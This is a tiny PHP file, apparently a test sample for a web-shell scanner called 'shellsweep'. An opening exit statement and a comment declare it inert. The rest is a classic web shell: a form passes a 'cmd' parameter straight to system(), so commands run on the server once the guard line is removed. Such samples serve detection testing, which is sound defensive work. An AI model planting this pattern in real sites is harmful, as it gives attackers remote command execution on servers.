<?php exit; /* shellsweep test sample: inert, never functional */ ?>
<html><body><form method="GET"><input name="cmd"><input type="submit"></form><pre>
<?php if (isset($_GET['cmd'])) { system($_GET['cmd']); } ?>
</pre></body></html>
